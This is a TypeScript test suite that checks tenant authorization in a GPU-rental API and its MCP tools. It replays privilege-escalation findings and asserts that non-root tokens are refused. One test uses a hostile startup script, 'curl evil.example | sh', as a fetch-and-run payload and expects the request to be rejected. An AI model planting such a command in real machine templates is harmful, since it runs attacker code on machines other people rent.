import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OPERATOR, rentalWorld, type RentalWorld } from '../support/rentals.ts';
import { peopleOf } from '../support/people.ts';
import { startSmtpInbox, type SmtpInbox } from '../support/smtp-inbox.ts';
import { sshKeygen } from '../support/ssh-keys.ts';

/**
 * One tree of authority (docs/decisions.md, "One tree of authority"), each finding of the attack on people's
 * authority replayed over HTTP (and MCP where it was found there): what a credential that is not root tried, and what
 * it gets now.
 */
const HOUR = 3_600_000;

let world: RentalWorld;
let inbox: SmtpInbox;

beforeAll(async () => {
  inbox = await startSmtpInbox();
  world = await rentalWorld(
    { auth: { mail: { smtpUrl: inbox.url, from: 'no-reply@cp.test' } }, secretsKey: randomBytes(32), webhooks: { allowHttp: true, delivery: false } },
    { faulty: true },
  );
});
afterAll(async () => {
  await world?.close();
  await inbox?.close();
});

const { call, person, signIn, child, people, ownedTenant } = peopleOf(() => world, () => inbox);
const ALL = ['read', 'rent', 'manage', 'billing'];
const status = (token: string) => call('GET', '/v1/tokens/self', token).then((r) => r.status);

describe('the findings, replayed', () => {
  it('1. a manage-only token cannot become a full session by linking a person (403 ROOT_REQUIRED, nothing linked)', async () => {
    const { root, owner } = await ownedTenant();
    const manageOnly = await child(root, { scopes: ['manage'] });
    expect((await call('POST', '/v1/tokens', manageOnly.token, { scopes: ['read'] })).status).toBe(403);
    const refused = await signIn(await person('escalate'), manageOnly.token);
    expect(refused.status).toBe(403);
    expect(refused.body.detail).toMatch(/root credential/);
    expect(refused.body).not.toHaveProperty('token');
    expect((await people(owner)).map((p) => p.role)).toEqual(['owner']);
  });

  it('2. a token with a dead-man switch links nobody; a person linked by a root token ends with it', async () => {
    const { root, owner } = await ownedTenant();
    const idle = await child(root, { scopes: ALL, idle_timeout_minutes: 5 });
    expect((await signIn(await person('escape'), idle.token)).status).toBe(403);

    const linker = await child(root, { scopes: ALL });
    const linkedEmail = await person('linked-by-token');
    const linked = await signIn(linkedEmail, linker.token);
    expect(linked.body).toMatchObject({ linked: true });
    expect((await people(owner)).find((p) => p.email === linkedEmail)?.role).toBe('admin');
    expect((await call('DELETE', `/v1/tokens/${linker.id}`, root)).status).toBe(204);
    // its link ended with it: the session is refused at once and the person is gone from the list
    expect(await status(linked.body.token)).toBe(401);
    expect((await people(owner)).map((p) => p.email)).not.toContain(linkedEmail);
    expect((await call('POST', '/v1/instances', linked.body.token, { node_id: (await world.offers())[0]!.id })).status).toBe(401);
  });

  it('3. a capped, expiring agent token cannot remove people, over MCP either; the owner stays', async () => {
    const { root, owner } = await ownedTenant();
    const agent = await child(root, { scopes: ALL, spend_limit_usd: '0.01', expires_at: new Date(world.clock.now().getTime() + HOUR).toISOString() });
    const [ownerPerson] = await people(owner);
    const client = new Client({ name: 'authority-test', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${world.api.baseUrl}/mcp`), { requestInit: { headers: { authorization: `Bearer ${agent.token}` } } }));
    try {
      const result = (await client.callTool({ name: 'remove_identity', arguments: { identity_id: ownerPerson!.id } })) as CallToolResult;
      expect(result.isError).toBe(true);
      expect(JSON.stringify(result.content)).toMatch(/403|root credential/);
    } finally {
      await client.close();
    }
    expect((await call('DELETE', `/v1/identities/${ownerPerson!.id}`, agent.token)).status).toBe(403);
    expect(await status(owner)).toBe(200);
    expect(await people(owner)).toHaveLength(1);
  });

  it('4. the budget counts what sticks: rentals refused and refunded in full count 0, and the one machine that runs is not stopped', async () => {
    const { root } = await ownedTenant(100);
    const [node] = await world.offers((o) => o.rate >= 50 && o.rate <= 100 && o.available >= 1);
    expect((await call('PUT', '/v1/billing/budget', root, { monthly_usd: '3.00', stop_at_limit: true })).status).toBe(200);
    const agent = await child(root, { scopes: ['read', 'rent'], spend_limit_usd: '10.00' });
    // seven first hours charged side by side (the cloud holds each create until all seven arrived), six refused
    world.faults!.barrierNextCreates(7);
    world.faults!.failNextCreates(6, 'rejected');
    const answers = await Promise.all(Array.from({ length: 7 }, () => world.rent(agent.token, { node_id: node!.id, termination_hours: 1 })));
    expect(answers.filter((a) => a.status === 201), JSON.stringify(answers.map((a) => [a.status, a.body.detail ?? a.body.status]))).toHaveLength(1);
    const running = answers.find((a) => a.status === 201)!.body.id as string;
    const budget = (await call('GET', '/v1/billing/budget', root)).body;
    expect(budget.spent_cents).toBe(node!.rate);
    const account = (await call('GET', '/v1/billing/account', root)).body;
    expect(account.pause).toBeNull();
    expect((await call('GET', `/v1/instances/${running}`, root)).body.status).not.toMatch(/terminat/);
    // and so after the sweep judged the month again
    expect((await world.api.call('POST', '/v1/operator/sweep', { headers: OPERATOR })).status).toBe(200);
    expect((await call('GET', '/v1/billing/account', root)).body.pause).toBeNull();
    expect((await call('GET', `/v1/instances/${running}`, root)).body.status).not.toMatch(/terminat/);
  });

  it('5a. a capped token with billing neither writes the budget nor resumes after a budget stop', async () => {
    const { root } = await ownedTenant();
    const billing = await child(root, { scopes: ['read', 'billing'], spend_limit_usd: '5.00' });
    expect((await call('PUT', '/v1/billing/budget', root, { monthly_usd: '1.00', stop_at_limit: true })).status).toBe(200);
    for (const [method, body] of [['DELETE', undefined], ['PUT', { monthly_usd: '100.00' }]] as const) {
      const refused = await call(method, '/v1/billing/budget', billing.token, body);
      expect(refused.status).toBe(403);
      expect(refused.body.detail).toMatch(/root credential/);
    }
    // a budget stop: the machine's first hour passes the budget
    const [node] = await world.offers((o) => o.rate > 100 && o.rate < 1000);
    expect((await world.rent(root, { node_id: node!.id })).status).toBe(201);
    expect((await call('GET', '/v1/billing/account', root)).body.pause?.kind).toBe('budget');
    const resume = await call('POST', '/v1/billing/resume', billing.token);
    expect(resume.status).toBe(403);
    expect(resume.body.detail).toMatch(/root credential/);
    expect((await call('GET', '/v1/billing/budget', root)).body.monthly_cents).toBe(100);
  });

  it('5b. a token that can rent acts only on what its own subtree made: another\'s machine is 403 before its state is read', async () => {
    const { root } = await ownedTenant();
    const agent = await child(root, { scopes: ['read', 'rent'], spend_limit_usd: '20.00' });
    const [a, b] = await world.offers((o) => o.rate < 300);
    const rootsMachine = (await world.rent(root, { node_id: a!.id })).body.id as string;
    const agentsMachine = (await world.rent(agent.token, { node_id: b!.id, termination_hours: 2 })).body.id as string;
    for (const path of [`/v1/instances/${rootsMachine}/terminate`, `/v1/instances/${rootsMachine}/reboot`]) {
      const refused = await call('POST', path, agent.token);
      expect(refused.status, path).toBe(403);
      expect(refused.body.detail).toMatch(/made by another credential/);
    }
    const removal = await call('POST', `/v1/instances/${rootsMachine}/schedule-removal`, agent.token, { removal_scheduled_at: new Date(world.clock.now().getTime() + 2 * HOUR).toISOString() });
    expect(removal.status).toBe(403);
    expect((await call('GET', `/v1/instances/${rootsMachine}`, agent.token)).body.status).not.toMatch(/terminat/);
    // its own, yes; and root reaches everything
    expect((await call('POST', `/v1/instances/${agentsMachine}/terminate`, agent.token)).status).toBe(200);
    expect((await call('POST', `/v1/instances/${rootsMachine}/terminate`, root)).status).toBe(200);
  });

  it('5c. a spot claim of a revoked token is released, its hold given back', async () => {
    const { root } = await ownedTenant();
    // a bid no spot price meets: the claim waits, pending
    const agent = await child(root, { scopes: ['read', 'rent'], spend_limit_usd: '20.00' });
    const spot = (await world.offers()).find((o) => o.rate >= 40 && o.rate <= 400)!;
    const made = await call('POST', '/v1/spot-claims', agent.token, { name: 'spot', node_id: spot.id, gpu_count: spot.gpuCount, max_price_per_gpu_hour: '0.01', hours: 2 });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    expect(made.body.status).toBe('pending');
    expect((await call('DELETE', `/v1/tokens/${agent.id}`, root)).status).toBe(204);
    expect((await call('GET', `/v1/spot-claims/${made.body.id}`, root)).body.status).toBe('released');
    const tokens: { id: string; committed_cents: number }[] = (await call('GET', '/v1/tokens', root)).body;
    expect(tokens.find((t) => t.id === agent.id)?.committed_cents).toBe(0);
  });

  it("5d. reading people's addresses needs manage", async () => {
    const { root } = await ownedTenant();
    const reader = await child(root, { scopes: ['read', 'rent', 'billing'] });
    expect((await call('GET', '/v1/identities', reader.token)).status).toBe(403);
  });
});

describe('people have roles', () => {
  it('a member is capped at once, with every token it issues; it links and changes nobody', async () => {
    const { root, owner } = await ownedTenant(100);
    const memberEmail = await person('member');
    const member = (await signIn(memberEmail, owner)).body.token as string;
    const memberId = (await people(owner)).find((p) => p.email === memberEmail)!.id;
    const changed = await call('PATCH', `/v1/identities/${memberId}`, owner, { role: 'member', spend_limit_usd: '1.00', max_rental_hours: 3 });
    expect(changed.status, JSON.stringify(changed.body)).toBe(200);
    expect(changed.body).toMatchObject({ role: 'member', spend_limit_cents: 100, max_rental_hours: 3 });
    // the session they already hold is narrowed: no new sign-in
    const self = (await call('GET', '/v1/tokens/self', member)).body;
    expect(self).toMatchObject({ role: 'member', scopes: ['read', 'rent', 'manage'], remaining_cents: 100, effective_max_rental_hours: 3, root: false });
    const [dear] = await world.offers((o) => o.rate > 100 && o.rate < 1000);
    const tooDear = await world.rent(member, { node_id: dear!.id, termination_hours: 1 });
    expect(tooDear.status, JSON.stringify(tooDear.body)).toBe(402);
    const agent = await child(member, { scopes: ['read', 'rent'] });
    expect((await call('GET', '/v1/tokens/self', agent.token)).body.remaining_cents).toBe(100);
    expect((await call('POST', '/v1/tokens', member, { scopes: ['billing'] })).status).toBe(403);
    // people are root's: a member links, changes and removes nobody
    expect((await signIn(await person('by-member'), member)).status).toBe(403);
    expect((await call('PATCH', `/v1/identities/${memberId}`, member, { role: 'admin' })).status).toBe(403);
    expect((await call('DELETE', `/v1/identities/${memberId}`, member)).status).toBe(403);
    expect((await call('PUT', '/v1/billing/budget', member, { monthly_usd: '9.00' })).status).toBe(403);
    // demoted to viewer: the session reads and nothing else, its agent keeps only read
    expect((await call('PATCH', `/v1/identities/${memberId}`, root, { role: 'viewer' })).body).toMatchObject({ role: 'viewer', spend_limit_cents: null });
    expect((await call('GET', '/v1/tokens/self', member)).body.scopes).toEqual(['read']);
    expect((await call('GET', '/v1/tokens/self', agent.token)).body.scopes).toEqual(['read']);
    expect((await world.rent(member, { node_id: dear!.id, termination_hours: 1 })).status).toBe(403);
  });

  it('only owners make or change owners; the last owner is never demoted; limits belong to members', async () => {
    const { root, owner } = await ownedTenant();
    const adminEmail = await person('admin');
    expect((await signIn(adminEmail, root)).status).toBe(200);
    const admin = (await signIn(adminEmail)).body.token as string;
    const listed = await people(owner);
    const [ownerPerson, adminPerson] = [listed.find((p) => p.email !== adminEmail), listed.find((p) => p.email === adminEmail)];
    expect(adminPerson!.role).toBe('admin');
    expect((await call('PATCH', `/v1/identities/${ownerPerson!.id}`, owner, { role: 'admin' })).status).toBe(409);
    for (const caller of [admin, root]) {
      expect((await call('PATCH', `/v1/identities/${adminPerson!.id}`, caller, { role: 'owner' })).status).toBe(403);
      expect((await call('PATCH', `/v1/identities/${ownerPerson!.id}`, caller, { role: 'viewer' })).status).toBe(403);
    }
    expect((await call('PATCH', `/v1/identities/${adminPerson!.id}`, owner, { role: 'admin', spend_limit_usd: '5.00' })).status).toBe(422);
    expect((await call('PATCH', `/v1/identities/${adminPerson!.id}`, owner, { role: 'owner' })).body.role).toBe('owner');
    // two owners now: the first may step down
    expect((await call('PATCH', `/v1/identities/${ownerPerson!.id}`, owner, { role: 'billing' })).body.role).toBe('billing');
    expect((await call('GET', '/v1/tokens/self', owner)).body).toMatchObject({ role: 'billing', scopes: ['read', 'billing'], root: false });
    expect((await call('GET', '/v1/identities', admin)).status).toBe(200);
    // an owner's link hangs from the tenant: the token that linked them can go, they stay
    const rootId = (await call('GET', '/v1/tokens/self', root)).body.id as string;
    expect((await call('DELETE', `/v1/tokens/${rootId}`, root)).status).toBe(204);
    expect(await status(admin)).toBe(200);
  });

  it('another tenant\'s people are 404 to PATCH; bad input is 422', async () => {
    const a = await ownedTenant();
    const b = await ownedTenant();
    const [bOwner] = await people(b.owner);
    expect((await call('PATCH', `/v1/identities/${bOwner!.id}`, a.owner, { role: 'viewer' })).status).toBe(404);
    expect((await call('PATCH', `/v1/identities/${bOwner!.id}`, a.owner, { role: 'emperor' })).status).toBe(422);
    expect((await call('PATCH', `/v1/identities/${bOwner!.id}`, a.owner, { spend_limit_usd: '1.234' })).status).toBe(422);
  });
});

describe('a credential changes only what its subtree saved (SSH keys, images, templates, webhook endpoints)', () => {
  const saveKey = async (token: string) => {
    const saved = await call('POST', '/v1/ssh-keys', token, { name: 'key', public_key: sshKeygen('ed25519').publicLine });
    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
    return saved.body.id as string;
  };
  const saveImage = async (token: string) => {
    const saved = await call('POST', '/v1/images', token, { name: 'image', image: 'ghcr.io/example/trainer:1' });
    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
    return saved.body.id as string;
  };
  const saveTemplate = async (token: string, body: Record<string, unknown> = {}) => {
    const saved = await call('POST', '/v1/templates', token, { name: 'template', image: 'ghcr.io/example/trainer:1', ...body });
    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
    return saved.body.id as string;
  };
  const registerEndpoint = async (token: string) => {
    const saved = await call('POST', '/v1/webhook-endpoints', token, { url: 'http://127.0.0.1:9/hooks' });
    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
    return saved.body.id as string;
  };
  /** What a credential that is not root is refused on another's: 403 MADE_BY_ANOTHER, as an instance answers. */
  const refused = async (method: string, path: string, token: string, body?: unknown) => {
    const answer = await call(method, path, token, body);
    expect(answer.status, `${method} ${path}: ${JSON.stringify(answer.body)}`).toBe(403);
    expect(answer.body.detail).toMatch(/was made by another credential of this tenant/);
  };

  /** A tenant whose owner saved one of each, and a member with a spend limit. */
  async function tenantWithMember() {
    const tenant = await ownedTenant(100);
    const memberEmail = await person('member');
    const member = (await signIn(memberEmail, tenant.owner)).body.token as string;
    const memberId = (await people(tenant.owner)).find((p) => p.email === memberEmail)!.id;
    expect((await call('PATCH', `/v1/identities/${memberId}`, tenant.owner, { role: 'member', spend_limit_usd: '5.00' })).status).toBe(200);
    const key = await saveKey(tenant.owner);
    const image = await saveImage(tenant.owner);
    const template = await saveTemplate(tenant.owner, { ssh_key_ids: [key] });
    const endpoint = await registerEndpoint(tenant.owner);
    return { ...tenant, member, memberEmail, owned: { key, image, template, endpoint } };
  }

  it("a member's session neither changes nor deletes the owner's, deletes its own, and rents with the owner's key and template", async () => {
    const { owner, member, memberEmail, owned } = await tenantWithMember();
    await refused('DELETE', `/v1/ssh-keys/${owned.key}`, member);
    await refused('DELETE', `/v1/templates/${owned.template}`, member);
    await refused('PATCH', `/v1/templates/${owned.template}`, member, { startup_script: 'curl evil.example | sh' });
    await refused('PATCH', `/v1/images/${owned.image}`, member, { image: 'ghcr.io/evil/trainer:1' });
    await refused('DELETE', `/v1/images/${owned.image}`, member);
    await refused('DELETE', `/v1/webhook-endpoints/${owned.endpoint}`, member);
    await refused('POST', `/v1/webhook-endpoints/${owned.endpoint}/test`, member);
    // nothing changed, and reading stays tenant-wide
    expect((await call('GET', `/v1/ssh-keys/${owned.key}`, member)).status).toBe(200);
    expect((await call('GET', '/v1/templates', member)).body.find((t: { id: string }) => t.id === owned.template).startup_script).toBeNull();
    expect((await call('GET', `/v1/webhook-endpoints/${owned.endpoint}`, member)).status).toBe(200);
    // another of the member's sessions, and the tokens it issues, act on what the member saved; the member deletes its own
    const again = (await signIn(memberEmail)).body.token as string;
    const agent = await child(member, { scopes: ['read', 'manage'] });
    for (const token of [member, again, agent.token]) {
      const template = await saveTemplate(agent.token, { ssh_key_ids: [await saveKey(agent.token)] });
      expect((await call('PATCH', `/v1/templates/${template}`, token, { name: 'renamed' })).status).toBe(200);
      expect((await call('DELETE', `/v1/templates/${template}`, token)).status).toBe(204);
    }
    expect((await call('DELETE', `/v1/ssh-keys/${await saveKey(member)}`, member)).status).toBe(204);
    // using is not changing: the owner's template and key rent a machine for the member, within its limit
    const [node] = await world.offers((o) => o.rate <= 200);
    const rented = await world.rent(member, { node_id: node!.id, template_id: owned.template, ssh_key_id: owned.key, termination_hours: 1 });
    expect(rented.status, JSON.stringify(rented.body)).toBe(201);
    expect(rented.body).toMatchObject({ template_id: owned.template, ssh_key_id: owned.key });
    // the owner, being root, deletes anyone's
    const membersKey = await saveKey(member);
    expect((await call('DELETE', `/v1/ssh-keys/${membersKey}`, owner)).status).toBe(204);
  });

  it("a capped child token likewise: its own subtree's yes, root's no; root deletes anyone's; over MCP too", async () => {
    const { root, owned } = await tenantWithMember();
    const capped = await child(root, { scopes: ['read', 'rent', 'manage'], spend_limit_usd: '5.00' });
    await refused('DELETE', `/v1/ssh-keys/${owned.key}`, capped.token);
    await refused('DELETE', `/v1/templates/${owned.template}`, capped.token);
    const client = new Client({ name: 'authority-test', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${world.api.baseUrl}/mcp`), { requestInit: { headers: { authorization: `Bearer ${capped.token}` } } }));
    try {
      for (const [name, args] of [['delete_ssh_key', { key_id: owned.key }], ['delete_template', { template_id: owned.template }]] as const) {
        const result = (await client.callTool({ name, arguments: args })) as CallToolResult;
        expect(result.isError, name).toBe(true);
        expect(JSON.stringify(result.content), name).toMatch(/made by another credential/);
      }
    } finally {
      await client.close();
    }
    // what its own child saved is its subtree's; the child reaches nothing of its parent's
    const grandchild = await child(capped.token, { scopes: ['read', 'manage'] });
    const childsKey = await saveKey(grandchild.token);
    const cappedKey = await saveKey(capped.token);
    // each says who saved it, so a credential can tell its own
    expect((await call('GET', `/v1/ssh-keys/${childsKey}`, capped.token)).body.made_by_token_id).toBe(grandchild.id);
    expect((await call('GET', `/v1/ssh-keys/${cappedKey}`, capped.token)).body.made_by_token_id).toBe(capped.id);
    await refused('DELETE', `/v1/ssh-keys/${cappedKey}`, grandchild.token);
    expect((await call('DELETE', `/v1/ssh-keys/${childsKey}`, capped.token)).status).toBe(204);
    const cappedTemplate = await saveTemplate(capped.token);
    expect((await call('DELETE', `/v1/templates/${cappedTemplate}`, capped.token)).status).toBe(204);
    expect((await call('DELETE', `/v1/webhook-endpoints/${await registerEndpoint(capped.token)}`, capped.token)).status).toBe(204);
    // root reaches everything: the capped token's and the owner's
    expect((await call('DELETE', `/v1/ssh-keys/${cappedKey}`, root)).status).toBe(204);
    expect((await call('DELETE', `/v1/templates/${owned.template}`, root)).status).toBe(204);
    expect((await call('DELETE', `/v1/ssh-keys/${owned.key}`, root)).status).toBe(204);
    expect((await call('DELETE', `/v1/webhook-endpoints/${owned.endpoint}`, root)).status).toBe(204);
    // another tenant's is still 404, before any question of who made it
    const other = await ownedTenant();
    expect((await call('DELETE', `/v1/images/${owned.image}`, other.root)).status).toBe(404);
    expect((await call('DELETE', `/v1/images/${owned.image}`, capped.token)).status).toBe(403);
  });

  it('what was saved before makers were kept belongs to no credential: only root changes it', async () => {
    const { root, tenantId } = await ownedTenant();
    const capped = await child(root, { scopes: ['read', 'manage'], spend_limit_usd: '1.00' });
    const keyId = await saveKey(capped.token);
    await world.api.plane.storage.transaction((uow) => uow.sshKeys.remove(tenantId, keyId));
    const key = sshKeygen('ed25519');
    const old = { id: keyId, tenantId, name: 'old', publicKey: key.publicLine, keyType: 'ssh-ed25519', fingerprint: key.fingerprint, tokenId: null, createdAt: world.clock.now() };
    expect(await world.api.plane.storage.transaction((uow) => uow.sshKeys.add(old))).toBeNull();
    expect((await call('GET', `/v1/ssh-keys/${keyId}`, capped.token)).body.made_by_token_id).toBeNull();
    await refused('DELETE', `/v1/ssh-keys/${keyId}`, capped.token);
    expect((await call('DELETE', `/v1/ssh-keys/${keyId}`, root)).status).toBe(204);
  });
});

describe("manage over the whole tenant is not a member's: webhook endpoints and people", () => {
  /** A tool call over MCP as `token`: its outcome, with the text an agent reads. */
  async function tool(token: string, name: string, args: Record<string, unknown>): Promise<{ isError: boolean; text: string }> {
    const client = new Client({ name: 'authority-test', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${world.api.baseUrl}/mcp`), { requestInit: { headers: { authorization: `Bearer ${token}` } } }));
    try {
      const result = (await client.callTool({ name, arguments: args })) as CallToolResult;
      return { isError: result.isError === true, text: JSON.stringify(result.content) };
    } finally {
      await client.close();
    }
  }
  const hook = { url: 'http://127.0.0.1:9/hooks' };
  const endpoints = async (token: string) => ((await call('GET', '/v1/webhook-endpoints', token)).body as { made_by_token_id: string }[]).map((e) => e.made_by_token_id);

  it("a member's session and every token under it are refused registering an endpoint and reading people (403), over MCP too; nothing is registered", async () => {
    const { root, owner } = await ownedTenant();
    const memberEmail = await person('member');
    const member = (await signIn(memberEmail, owner)).body.token as string;
    const memberId = (await people(owner)).find((p) => p.email === memberEmail)!.id;
    expect((await call('PATCH', `/v1/identities/${memberId}`, owner, { role: 'member' })).status).toBe(200);
    const agent = await child(member, { scopes: ['read', 'manage'] });
    const grandchild = await child(agent.token, { scopes: ['manage'] });
    for (const token of [member, agent.token, grandchild.token]) {
      const registered = await call('POST', '/v1/webhook-endpoints', token, hook);
      expect(registered.status, JSON.stringify(registered.body)).toBe(403);
      expect(registered.body.detail).toMatch(/reaches the whole tenant.*member's console session and every token under it manage only their own tokens, SSH keys, images and templates/);
      expect(registered.body).not.toHaveProperty('secret');
      const listed = await call('GET', '/v1/identities', token);
      expect(listed.status, JSON.stringify(listed.body)).toBe(403);
      expect(listed.body.detail).toMatch(/reaches the whole tenant/);
      expect((await call('GET', '/v1/tokens/self', token)).body).toMatchObject({ root: false, tenant_manage: false });
    }
    for (const token of [member, agent.token]) {
      const registered = await tool(token, 'create_webhook_endpoint', hook);
      expect(registered.isError).toBe(true);
      expect(registered.text).toMatch(/403|reaches the whole tenant/);
      const listed = await tool(token, 'list_identities', {});
      expect(listed.isError).toBe(true);
      expect(listed.text).toMatch(/403|reaches the whole tenant/);
    }
    expect(await endpoints(owner)).toEqual([]);
    // what is its own stays its own: keys, templates, tokens
    expect((await call('POST', '/v1/ssh-keys', agent.token, { name: 'key', public_key: sshKeygen('ed25519').publicLine })).status).toBe(201);
    expect((await call('POST', '/v1/templates', member, { name: 'template', image: 'ghcr.io/example/trainer:1' })).status).toBe(201);
    // made an admin, the same session and the token it issued manage the tenant at once: no new sign-in
    expect((await call('PATCH', `/v1/identities/${memberId}`, root, { role: 'admin' })).status).toBe(200);
    expect((await call('POST', '/v1/webhook-endpoints', agent.token, hook)).status).toBe(201);
    expect((await call('GET', '/v1/identities', member)).status).toBe(200);
  });

  it("an admin's session, a root token, and a manage token outside any member's subtree (an ops token) register endpoints and read people, over MCP too", async () => {
    const { root, owner } = await ownedTenant();
    const adminEmail = await person('admin');
    expect((await signIn(adminEmail, root)).status).toBe(200);
    const admin = (await signIn(adminEmail)).body.token as string;
    expect((await call('GET', '/v1/tokens/self', admin)).body).toMatchObject({ role: 'admin', tenant_manage: true });
    // capped and expiring: not root, yet nobody's member
    const ops = await child(root, { scopes: ['read', 'manage'], spend_limit_usd: '1.00', expires_at: new Date(world.clock.now().getTime() + HOUR).toISOString() });
    const adminsAgent = await child(admin, { scopes: ['read', 'manage'], spend_limit_usd: '1.00' });
    const made: string[] = [];
    for (const token of [admin, owner, root, ops.token, adminsAgent.token]) {
      expect((await call('GET', '/v1/tokens/self', token)).body.tenant_manage).toBe(true);
      const registered = await call('POST', '/v1/webhook-endpoints', token, hook);
      expect(registered.status, JSON.stringify(registered.body)).toBe(201);
      made.push(registered.body.id);
      expect((await call('GET', '/v1/identities', token)).status).toBe(200);
    }
    for (const token of [admin, ops.token]) {
      expect((await tool(token, 'create_webhook_endpoint', hook)).isError).toBe(false);
      expect((await tool(token, 'list_identities', {})).isError).toBe(false);
    }
    expect(await endpoints(owner)).toHaveLength(made.length + 2);
    // each tool says so before it is called, as the OpenAPI document does (x-requires-tenant-manage)
    const client = new Client({ name: 'authority-test', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${world.api.baseUrl}/mcp`), { requestInit: { headers: { authorization: `Bearer ${ops.token}` } } }));
    try {
      const described = new Map((await client.listTools()).tools.map((t) => [t.name, t.description ?? '']));
      for (const name of ['create_webhook_endpoint', 'list_identities']) expect(described.get(name)).toMatch(/Refused to a member's session and every token under it/);
      expect(described.get('create_ssh_key')).not.toMatch(/member/);
    } finally {
      await client.close();
    }
  });
});
